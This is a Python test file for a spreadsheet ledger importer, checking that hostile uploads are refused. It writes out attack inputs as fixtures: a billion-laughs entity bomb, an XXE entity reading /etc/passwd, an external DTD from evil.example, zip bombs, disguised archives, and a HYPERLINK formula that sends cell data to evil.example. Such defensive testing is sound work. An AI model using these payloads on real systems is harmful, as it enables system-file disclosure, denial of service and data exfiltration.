"""A ledger to import that is a bomb, a spy, or no ledger: refused with a sentence, before it costs anything."""

import io
import zipfile

import openpyxl
import pytest

from cases.imports.files import MAX_BYTES, Unreadable
from cases.imports.reading import MAX_COLUMNS, data_rows, find_layout
from tests.cases.ledgers import HEADINGS

SHEET = "xl/worksheets/sheet1.xml"
DECLARED = '<?xml version="1.0" encoding="{encoding}"?>'
LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet>&c;</worksheet>'
)
SPY = '<!DOCTYPE worksheet [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'
SPY_BY_NET = '<!DOCTYPE worksheet SYSTEM "http://evil.example/a.dtd"><worksheet/>'


def workbook(*rows: list[object]) -> bytes:
    made, file = openpyxl.Workbook(), io.BytesIO()
    made.active.append(HEADINGS)
    for row in rows:
        made.active.append(row)
    made.save(file)
    return file.getvalue()


def with_part(name: str, data: bytes, content: bytes | None = None) -> bytes:
    """The same workbook with this part in place of its own."""
    file = io.BytesIO()
    source = content or workbook(["x"] * len(HEADINGS))
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename != name:
                new.writestr(part.filename, old.read(part))
        new.writestr(name, data)
    return file.getvalue()


def layout_of(content: bytes) -> object:
    return find_layout(io.BytesIO(content), len(content))


@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16"])
@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels"])
@pytest.mark.parametrize("xml", [LAUGHS, SPY, SPY_BY_NET], ids=["laughs", "spy", "net"])
def test_entities_are_refused_unopened_wherever_they_lie(xml: str, part: str, encoding: str) -> None:
    with pytest.raises(Unreadable, match="内部结构"):
        layout_of(with_part(part, (DECLARED.format(encoding=encoding) + xml).encode(encoding)))


@pytest.mark.parametrize("filler", [" " * 70_000, "<!--" + "x" * 70_000 + "-->", "\n<?x " + "y" * 70_000 + "?>"])
def test_entities_behind_a_long_beginning_are_refused_too(filler: str) -> None:
    with pytest.raises(Unreadable):
        layout_of(with_part(SHEET, (DECLARED.format(encoding="UTF-8") + filler + LAUGHS).encode()))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        pytest.param(with_part("xl/media/a.bin", b"\0" * 200_000_000), "展开后", id="zip bomb"),
        pytest.param(with_part("[Content_Types].xml", b"<Types/>"), "已损坏", id="no content types"),
        pytest.param(b"<html><table><tr><td>1</td></tr></table></html>", "", id="html named xlsx"),
        pytest.param(b"\x1f\x8b\x08\x00" + b"\0" * 100, "不是表格", id="gzip"),
        pytest.param(b"Rar!\x1a\x07\x01\x00" + b"\0" * 100, "不是表格", id="rar"),
        pytest.param(b"7z\xbc\xaf\x27\x1c" + b"\0" * 100, "不是表格", id="7z"),
        pytest.param(b"a" * (MAX_BYTES + 1), "上限", id="too large"),
    ],
)
def test_a_bomb_or_a_disguise_is_refused_or_read_as_text(content: bytes, words: str) -> None:
    if words:
        with pytest.raises(Unreadable, match=words):
            layout_of(content)
    else:
        assert layout_of(content).kind == "csv"


def test_an_archive_in_an_archive_is_not_opened() -> None:
    """What holds itself for ever (a quine) is one part as any other; nothing unpacks what lies in it."""
    inside = with_part("xl/embeddings/again.zip", workbook())

    assert layout_of(inside).kind == "xlsx"


def test_a_row_of_sixteen_thousand_cells_is_read_to_its_hundredth() -> None:
    content = workbook(["1"] * 16_384)

    layout = find_layout(io.BytesIO(content), len(content))

    assert len(layout.headings) <= MAX_COLUMNS
    assert [len(row.cells) for row in data_rows(io.BytesIO(content), layout)] == [len(layout.headings)]


def test_a_formula_in_a_ledger_is_never_worked_out() -> None:
    """Of a formula the value counts that the program stored beside it; here none."""
    content = workbook(['=HYPERLINK("http://evil.example/?"&A2)', *["x"] * (len(HEADINGS) - 1)])
    layout = find_layout(io.BytesIO(content), len(content))

    assert next(iter(data_rows(io.BytesIO(content), layout))).cells[0] is None
